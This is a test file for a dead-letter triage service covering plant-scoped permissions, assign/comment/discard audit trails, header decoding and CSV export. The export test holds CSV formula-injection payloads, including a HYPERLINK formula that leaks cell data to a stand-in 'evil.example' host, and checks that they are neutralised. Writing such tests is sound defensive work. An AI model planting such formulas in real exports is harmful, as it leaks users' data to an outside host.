import { randomUUID } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Db } from '../../db/client'
import { freshPgliteDb } from '../../db/testing'
import { DomainError } from '../../domain/errors'
import { insertDeadLetter, insertUniquePlant } from '../testing/replays'
import { makePrincipal } from '../testing/principal'
import { exportDeadLettersCsv } from './export'
import { getDeadLetter, listGroups, listRecords } from './queries'
import { assignDeadLetter, commentDeadLetter, discardDeadLetter, triageMatching } from './triage'
import { domainError } from '../testing/errors'

/**
 * Triage on PGlite: groups and records within the caller's plants, assign/comment/discard with the
 * role and plant checks, the reason a discard needs, the state machine and the audit rows.
 */

describe('dead-letter triage', () => {
  let db: Db
  let plantA: string
  let plantB: string
  beforeAll(async () => {
    db = await freshPgliteDb()
    plantA = await insertUniquePlant(db.prisma)
    plantB = await insertUniquePlant(db.prisma)
  })
  afterAll(() => db.close())
  /** A user (who could sign in) with these plants. */
  const makeUser = (role: 'viewer' | 'operator' | 'admin', plants: string[], disabled = false) =>
    db.prisma.user.create({
      data: { id: randomUUID(), email: `${role}-${randomUUID().slice(0, 8)}@test`, name: role, role, disabled, plantScopes: { create: plants.map((plantCode) => ({ plantCode })) } },
    })

  it('groups by fingerprint within the caller’s plants, with counts, plants and first/last seen', async () => {
    const t0 = new Date('2026-11-30T08:00:00Z')
    for (let i = 0; i < 3; i++) await insertDeadLetter(db.prisma, { plant: plantA, errorCode: 'M7/053', failedAt: new Date(t0.getTime() + i * 60_000) })
    await insertDeadLetter(db.prisma, { plant: plantB, errorCode: 'M7/053', failedAt: t0 })
    await insertDeadLetter(db.prisma, { plant: plantA, errorCode: 'M3/305', failedAt: t0 })

    const admin = makePrincipal('admin', 'all')
    const all = await listGroups({ db: db.prisma, principal: admin }, { plants: [plantA, plantB] })
    const period = all.groups.find((g) => g.errorCode === 'M7/053')!
    expect(period).toMatchObject({ count: 4, open: 4, plants: [plantA, plantB].sort(), category: 'permanent' })
    expect(period.firstSeen).toEqual(t0)
    expect(period.lastSeen).toEqual(new Date(t0.getTime() + 120_000))
    expect(period.sampleMessage).toContain('Posting only possible')

    const operatorA = makePrincipal('operator', [plantA])
    const mine = await listGroups({ db: db.prisma, principal: operatorA }, {})
    expect(mine.groups.find((g) => g.errorCode === 'M7/053')).toMatchObject({ count: 3, plants: [plantA] })
    expect(await domainError(listGroups({ db: db.prisma, principal: operatorA }, { plant: plantB }))).toMatchObject({ code: 'FORBIDDEN' })

    const records = await listRecords({ db: db.prisma, principal: operatorA }, { filter: { errorCode: ['M7/053'] }, limit: 2 })
    expect(records.total).toBe(3)
    expect(records.items).toHaveLength(2)
    expect(records.nextCursor).not.toBeNull()
    const rest = await listRecords({ db: db.prisma, principal: operatorA }, { filter: { errorCode: ['M7/053'] }, limit: 2, cursor: records.nextCursor })
    expect(rest.items.map((i) => i.id)).not.toContain(records.items[0]!.id)
    expect(rest.items).toHaveLength(1)
  })

  it('assign and comment move new → triaged; discard needs a reason; every action is audited with before and after', async () => {
    const { row } = await insertDeadLetter(db.prisma, { plant: plantA })
    const operator = makePrincipal('operator', [plantA])
    const user = await makeUser('operator', [plantA])
    const ctx = { db: db.prisma, principal: operator, clientAddress: '10.0.0.1' }

    expect(await assignDeadLetter(ctx, { id: row.id, assigneeId: user.id })).toMatchObject({ status: 'triaged', assigneeId: user.id })
    const commented = await commentDeadLetter(ctx, { id: row.id, body: 'Waiting for MMPV in company code 1000' })
    expect(commented.status).toBe('triaged')

    expect(await domainError(discardDeadLetter(ctx, { id: row.id, reason: '' }))).toMatchObject({ code: 'BAD_REQUEST', message: expect.stringContaining('say why') })
    expect(await discardDeadLetter(ctx, { id: row.id, reason: 'Posted by hand in MIGO' })).toMatchObject({ status: 'discarded' })
    // Closed: no second discard, no assign.
    expect(await domainError(discardDeadLetter(ctx, { id: row.id, reason: 'again please' }))).toMatchObject({ code: 'CONFLICT' })
    expect(await domainError(assignDeadLetter(ctx, { id: row.id, assigneeId: null }))).toMatchObject({ code: 'CONFLICT' })

    const detail = await getDeadLetter({ db: db.prisma, principal: operator }, { id: row.id })
    expect(detail.comments).toEqual([expect.objectContaining({ author: operator.label, body: 'Waiting for MMPV in company code 1000' })])
    expect(detail.audit.map((a) => [a.action, a.actor, a.before, a.after])).toEqual([
      ['dead_letter.assign', operator.label, { status: 'new', assigneeId: null }, { status: 'triaged', assigneeId: user.id, assignee: user.email }],
      ['dead_letter.comment', operator.label, { status: 'triaged' }, { status: 'triaged', commentId: detail.comments[0]!.id }],
      ['dead_letter.discard', operator.label, { status: 'triaged' }, { status: 'discarded' }],
    ])
    expect(detail.audit[2]!.reason).toBe('Posted by hand in MIGO')
    const rows = await db.prisma.auditLog.findMany({ where: { targetId: row.id } })
    expect(rows.every((r) => r.ip === '10.0.0.1' && r.actorId === operator.userId)).toBe(true)
  })

  it('assigns dead letters only to active operators or admins whose plants include the record’s plant', async () => {
    const { row } = await insertDeadLetter(db.prisma, { plant: plantA })
    const ctx = { db: db.prisma, principal: makePrincipal('operator', [plantA]) }
    const [viewerA, operatorB, disabledA, operatorA, admin] = await Promise.all([
      makeUser('viewer', [plantA]),
      makeUser('operator', [plantB]),
      makeUser('operator', [plantA], true),
      makeUser('operator', [plantA]),
      makeUser('admin', []),
    ])
    expect(await domainError(assignDeadLetter(ctx, { id: row.id, assigneeId: viewerA.id }))).toEqual({
      code: 'BAD_REQUEST',
      message: `${viewerA.email} is a viewer: dead letters are assigned to operators or admins, who can triage and replay them.`,
    })
    expect(await domainError(assignDeadLetter(ctx, { id: row.id, assigneeId: operatorB.id }))).toEqual({
      code: 'BAD_REQUEST',
      message: `${operatorB.email} cannot take dead letters of plant ${plantA}: assign them to an operator or admin of that plant.`,
    })
    expect(await domainError(assignDeadLetter(ctx, { id: row.id, assigneeId: disabledA.id }))).toMatchObject({ code: 'BAD_REQUEST', message: 'Pick an active user to assign it to.' })
    expect((await db.prisma.deadLetter.findUniqueOrThrow({ where: { id: row.id } })).assigneeId).toBeNull()
    expect(await assignDeadLetter(ctx, { id: row.id, assigneeId: operatorA.id })).toMatchObject({ assigneeId: operatorA.id })
    expect(await assignDeadLetter(ctx, { id: row.id, assigneeId: admin.id })).toMatchObject({ assigneeId: admin.id })

    // A record without a decoded plant: admins only, as for reading it.
    const { row: orphan } = await insertDeadLetter(db.prisma, { plant: null })
    const asAdmin = { db: db.prisma, principal: makePrincipal('admin', 'all') }
    expect(await domainError(assignDeadLetter(asAdmin, { id: orphan.id, assigneeId: operatorA.id }))).toMatchObject({ code: 'BAD_REQUEST', message: `${operatorA.email} cannot take dead letters without a known plant: only admins see those; assign them to an admin.` })
    expect(await assignDeadLetter(asAdmin, { id: orphan.id, assigneeId: admin.id })).toMatchObject({ assigneeId: admin.id })

    // A group: the assignee must be able to take every record that would move; else none moves.
    const inA = await insertDeadLetter(db.prisma, { plant: plantA, errorCode: 'GA/001' })
    const inB = await insertDeadLetter(db.prisma, { plant: plantB, errorCode: 'GA/001' })
    const group = { filter: { fingerprint: 'fp-GA/001' }, action: { kind: 'assign' as const, assigneeId: operatorA.id } }
    expect(await domainError(triageMatching(asAdmin, group))).toMatchObject({ code: 'BAD_REQUEST', message: `${operatorA.email} cannot take dead letters of plant ${plantB}: assign them to an operator or admin of that plant.` })
    expect((await db.prisma.deadLetter.findMany({ where: { id: { in: [inA.row.id, inB.row.id] } } })).map((d) => d.assigneeId)).toEqual([null, null])
    // An operator of plant A moves only plant A’s records, which operator A may take.
    expect(await triageMatching({ db: db.prisma, principal: makePrincipal('operator', [plantA]) }, group)).toEqual({ changed: 1, skipped: 0 })
  })

  it('viewers cannot triage; operators only within their plants; records of unknown plants are for admins', async () => {
    const { row } = await insertDeadLetter(db.prisma, { plant: plantB })
    const viewer = makePrincipal('viewer', [plantB])
    expect(await domainError(commentDeadLetter({ db: db.prisma, principal: viewer }, { id: row.id, body: 'hi' }))).toMatchObject({ code: 'FORBIDDEN' })
    const operatorA = makePrincipal('operator', [plantA])
    expect(await domainError(discardDeadLetter({ db: db.prisma, principal: operatorA }, { id: row.id, reason: 'not mine' }))).toMatchObject({ code: 'NOT_FOUND' })
    expect(await domainError(getDeadLetter({ db: db.prisma, principal: operatorA }, { id: row.id }))).toMatchObject({ code: 'NOT_FOUND' })
    expect((await db.prisma.deadLetter.findUniqueOrThrow({ where: { id: row.id } })).status).toBe('new')

    const { row: orphan } = await insertDeadLetter(db.prisma, { plant: null })
    expect(await domainError(getDeadLetter({ db: db.prisma, principal: makePrincipal('operator', [plantA, plantB]) }, { id: orphan.id }))).toMatchObject({ code: 'NOT_FOUND' })
    expect((await getDeadLetter({ db: db.prisma, principal: makePrincipal('admin', 'all') }, { id: orphan.id })).id).toBe(orphan.id)
  })

  it('group actions: discard or assign every open record of a group in the caller’s plants, each audited, with a summary row', async () => {
    const [a1, a2] = [await insertDeadLetter(db.prisma, { plant: plantA, errorCode: 'GT/001' }), await insertDeadLetter(db.prisma, { plant: plantA, errorCode: 'GT/001' })]
    const inReplay = await insertDeadLetter(db.prisma, { plant: plantA, errorCode: 'GT/001', status: 'replay_queued' })
    const otherPlant = await insertDeadLetter(db.prisma, { plant: plantB, errorCode: 'GT/001' })
    const otherGroup = await insertDeadLetter(db.prisma, { plant: plantA, errorCode: 'GT/002' })
    const operatorA = makePrincipal('operator', [plantA])
    const ctx = { db: db.prisma, principal: operatorA, clientAddress: '10.0.0.2' }
    const group = { fingerprint: 'fp-GT/001' }

    // Bad input changes nothing: no reason, no group, a plant outside the caller's.
    expect(await domainError(triageMatching(ctx, { filter: group, action: { kind: 'discard', reason: ' ' } }))).toMatchObject({ code: 'BAD_REQUEST', message: expect.stringContaining('say why') })
    expect(await domainError(triageMatching(ctx, { filter: { errorCode: ['GT/001'] }, action: { kind: 'discard', reason: 'test data' } }))).toMatchObject({ code: 'BAD_REQUEST', message: expect.stringContaining('needs the group') })
    expect(await domainError(triageMatching(ctx, { filter: { ...group, plant: plantB }, action: { kind: 'discard', reason: 'test data' } }))).toMatchObject({ code: 'FORBIDDEN' })
    const status = async (id: string) => (await db.prisma.deadLetter.findUniqueOrThrow({ where: { id } })).status
    expect(await Promise.all([a1, a2, inReplay, otherPlant, otherGroup].map((d) => status(d.row.id)))).toEqual(['new', 'new', 'replay_queued', 'new', 'new'])

    expect(await triageMatching(ctx, { filter: group, action: { kind: 'discard', reason: 'Test postings from the cut-over rehearsal' } })).toEqual({ changed: 2, skipped: 0 })
    // The group's open records in plant A only; the one in a replay, plant B's and the other group stay.
    expect(await Promise.all([a1, a2, inReplay, otherPlant, otherGroup].map((d) => status(d.row.id)))).toEqual(['discarded', 'discarded', 'replay_queued', 'new', 'new'])
    const trail = await db.prisma.auditLog.findMany({ where: { targetId: { in: [a1.row.id, a2.row.id, 'fp-GT/001'] } }, orderBy: { targetType: 'asc' } })
    expect(trail.map((t) => [t.action, t.targetType, t.reason])).toEqual([
      ['dead_letter.discard', 'dead_letter', 'Test postings from the cut-over rehearsal'],
      ['dead_letter.discard', 'dead_letter', 'Test postings from the cut-over rehearsal'],
      ['dead_letter.group_discard', 'dead_letter_group', 'Test postings from the cut-over rehearsal'],
    ])
    expect(trail[2]!.after).toMatchObject({ changed: 2, skipped: 0, filter: group })
    // Nothing left to discard: a second run changes nothing.
    expect(await triageMatching(ctx, { filter: group, action: { kind: 'discard', reason: 'again' } })).toEqual({ changed: 0, skipped: 0 })

    // An admin assigns the group in both plants; assigning again to the same person changes nothing.
    const admin = makePrincipal('admin', 'all')
    const user = await makeUser('operator', [plantA, plantB])
    const assign = { filter: group, action: { kind: 'assign' as const, assigneeId: user.id } }
    expect(await triageMatching({ db: db.prisma, principal: admin }, assign)).toEqual({ changed: 2, skipped: 0 })
    expect(await db.prisma.deadLetter.findUniqueOrThrow({ where: { id: otherPlant.row.id } })).toMatchObject({ status: 'triaged', assigneeId: user.id })
    expect(await db.prisma.deadLetter.findUniqueOrThrow({ where: { id: inReplay.row.id } })).toMatchObject({ status: 'replay_queued', assigneeId: user.id })
    expect(await triageMatching({ db: db.prisma, principal: admin }, assign)).toEqual({ changed: 0, skipped: 0 })
    expect(await domainError(triageMatching({ db: db.prisma, principal: admin }, { filter: group, action: { kind: 'assign', assigneeId: 'nobody' } }))).toMatchObject({ code: 'BAD_REQUEST' })
    // Viewers never.
    expect(await domainError(triageMatching({ db: db.prisma, principal: makePrincipal('viewer', [plantB]) }, assign))).toMatchObject({ code: 'FORBIDDEN' })
  })

  it('a record in a replay cannot be discarded', async () => {
    const { row } = await insertDeadLetter(db.prisma, { plant: plantA, status: 'replay_queued' })
    expect(await domainError(discardDeadLetter({ db: db.prisma, principal: makePrincipal('operator', [plantA]) }, { id: row.id, reason: 'no longer needed' }))).toMatchObject({ code: 'CONFLICT' })
  })

  it('detail shows headers with Spring’s binary numbers decoded (bytes kept as base64), DLQ headers marked, payload as text', async () => {
    const { row } = await insertDeadLetter(db.prisma, { plant: plantA, convention: 'spring' })
    const d = await getDeadLetter({ db: db.prisma, principal: makePrincipal('viewer', [plantA]) }, { id: row.id })
    const partition = d.headers.find((h) => h.key === 'kafka_dlt-original-partition')!
    expect(partition).toEqual({ key: 'kafka_dlt-original-partition', value: 'AAAAAQ==', text: null, dlq: true, shown: '1', shownAs: 'int32' })
    expect(d.headers.find((h) => h.key === 'correlation_id')).toMatchObject({ dlq: false, text: d.correlationId })
    expect(JSON.parse(d.payload!)).toMatchObject({ plant: plantA, correlation_id: d.correlationId })
  })

  it('CSV export: the filter’s rows in the caller’s plants, formula-like cells neutralised, times in ISO 8601', async () => {
    const plant = await insertUniquePlant(db.prisma)
    const attack = await insertDeadLetter(db.prisma, { plant, errorCode: '=HYPERLINK("x")' })
    // What a producer or a replay edit can put into the keys and the message.
    await db.prisma.deadLetter.update({
      where: { id: attack.row.id },
      data: {
        businessKeys: { work_order: '+4711', lot: '@LOT', material: '=HYPERLINK("http://evil.example/?leak="&A2,"click")' },
        errorMessage: '-2+3\nsecond line',
        consumerGroup: '\t=1+1',
        convention: '\r=1+1',
      },
    })
    const plain = await insertDeadLetter(db.prisma, { plant, errorCode: 'M7/053', workOrder: '155000072353' })
    const operator = makePrincipal('operator', [plant])
    const text = await new Response(await exportDeadLettersCsv({ db: db.prisma, principal: operator }, { plant })).text()
    expect(text.split('\r\n')[0]).toBe(
      'id,status,dead_lettered_at,plant,flow,error_category,error_code,error_class,error_message,correlation_id,work_order,lot,material,dlq_topic,dlq_partition,dlq_offset,convention,source_topic,source_partition,source_offset,consumer_group,attempts,assignee_id,fingerprint,expires_at,source_timestamp,connector,task,stage,executing_class,processor_node',
    )
    expect(text).toContain(`,"'=HYPERLINK(""x"")",`)
    expect(text).toContain(`,"'-2+3\nsecond line",`)
    expect(text).toContain(`,'+4711,'@LOT,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""click"")",`)
    expect(text).toContain(`,"'\r=1+1",`)
    expect(text).toContain(`,'\t=1+1,`)
    // Ordinary values unchanged; times ISO 8601 (UTC).
    const row = text.split('\r\n').find((l) => l.startsWith(`${plain.row.id},`))!
    expect(row).toContain(`,new,${plain.row.recordTimestamp.toISOString()},${plant},production_confirmation,permanent,M7/053,com.sap.conn.jco.AbapException,Posting only possible in periods 2026/11 and 2026/10,${plain.row.correlationId},155000072353,`)
    expect(row).toContain(',fp-M7/053,')
    await expect(exportDeadLettersCsv({ db: db.prisma, principal: operator }, { plant: plantA })).rejects.toThrow(DomainError)
  })
})
